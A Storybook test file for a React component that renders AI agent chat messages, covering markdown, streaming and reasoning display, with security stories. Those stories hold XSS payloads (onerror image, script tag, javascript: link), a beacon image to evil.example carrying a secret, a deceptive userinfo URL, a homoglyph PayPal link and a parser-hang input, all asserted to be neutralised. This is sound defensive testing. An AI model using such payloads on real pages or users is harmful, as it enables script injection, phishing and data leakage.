import type { Meta, StoryObj } from '@storybook/react-vite'
import { MessageContent, type AgentMessage } from 'base44-react'
import { expect, screen } from 'storybook/test'
import { onPage } from './support/onPage.js'

const date = '2026-01-05T10:42:00'

const message: AgentMessage = {
  id: 'message-1',
  role: 'assistant',
  created_date: date,
  updated_date: date,
  content: `Two of them are **yours**.

1. Ship invoices
2. Renew the certificate, as \`ops\` said[^1]

- [x] looked up
- [ ] answered

> The certificate blocks the release.

## What to run

\`\`\`bash
certbot renew --cert-name shop
\`\`\`

| Task | Due |
|---|--:|
| Ship invoices | 15 Nov |

[^1]: In the channel, on Sunday.`,
}

/** All that one message carries, wherever it is to be shown. */
const meta = {
  component: MessageContent,
  args: { message },
  decorators: [onPage(640)],
} satisfies Meta<typeof MessageContent>

export default meta
type Story = StoryObj<typeof meta>

export const Markdown: Story = {}

export const Dark: Story = { globals: { theme: 'dark' } }

/** More is on its way: what its end leaves open is shown as what it is about to be. */
export const Streaming: Story = {
  args: {
    isStreaming: true,
    message: { ...message, content: 'I can also write to [Dana](https://shop.example) about the **rene' },
  },
  play: async ({ canvas }) => {
    await expect(await canvas.findByText('rene')).toHaveProperty('tagName', 'STRONG')
  },
}

/** Open while the agent thinks. */
export const Thinking: Story = {
  args: {
    isStreaming: true,
    message: {
      ...message,
      content: '',
      reasoning: { start_date: date, content: 'They ask about overdue tasks.' },
    },
  },
}

export const Thought: Story = {
  args: {
    message: {
      ...message,
      content: 'Two are overdue.',
      reasoning: {
        start_date: date,
        end_date: '2026-01-05T10:42:03',
        content: 'They ask about overdue tasks.',
      },
    },
  },
  play: async ({ canvas, userEvent }) => {
    await userEvent.click(canvas.getByRole('button', { name: 'Thought for 3 s' }))
    await expect(canvas.getByText('They ask about overdue tasks.')).toBeVisible()
  },
}

/** No HTML, no address that is not what it says, no picture that phones home. */
export const Hostile: Story = {
  args: {
    message: {
      ...message,
      content: `<img src=x onerror=alert(1)> <script>alert(2)</script>

[a bank](https://bank.example@evil.example/) and [another](javascript:alert(3))

![](https://evil.example/beacon.png?secret)`,
    },
  },
  play: async ({ canvas, canvasElement }) => {
    await expect(canvasElement.querySelector('img, script, a')).toBeNull()
    await expect(canvas.getByRole('button', { name: 'Load the image from evil.example' })).toBeVisible()
  },
}

/** A link to a host that nobody has vouched for shows where it really leads, and asks. */
export const ForeignLink: Story = {
  parameters: { a11y: { context: 'body' } },
  args: {
    linkHosts: ['docs.example.com'],
    message: {
      ...message,
      content: `As [our handbook](https://docs.example.com/billing) says, you can pay on
[paypal.com](https://p\u0430ypal.example/checkout/session?order=A-1042&return=${'%2Forders%2FA-1042'.repeat(12)}).`,
    },
  },
  play: async ({ canvas, userEvent }) => {
    await userEvent.click(canvas.getByRole('link', { name: 'paypal.com' }))
    const dialog = await screen.findByRole('dialog', { name: 'Open this link?' })
    await expect(dialog).toHaveTextContent('xn--pypal-4ve.example')
    await expect(screen.getByRole('button', { name: 'Cancel' })).toHaveFocus()
  },
}

export const ForeignLinkDark: Story = { ...ForeignLink, globals: { theme: 'dark' } }

/** Right to left, on a narrow page. */
export const ForeignLinkNarrow: Story = {
  ...ForeignLink,
  globals: { direction: 'rtl' },
  decorators: [onPage(320)],
}

/** Shapes that are made to hang a parser are shown as they are. */
export const PlainText: Story = { args: { message: { ...message, content: `${'> '.repeat(200)}HELLO` } } }

/** Object content, as JSON. */
export const ObjectContent: Story = {
  args: {
    message: { ...message, content: { kind: 'order', id: 'A-1042', lines: [{ sku: 'X1', count: 2 }] } },
  },
}

/** What the person wrote is shown as it was written. */
export const FromTheUser: Story = {
  args: {
    message: {
      ...message,
      role: 'user',
      content: 'See **these**,\nplease.',
      file_urls: ['https://files.example/invoice-0423.pdf'],
    },
  },
}
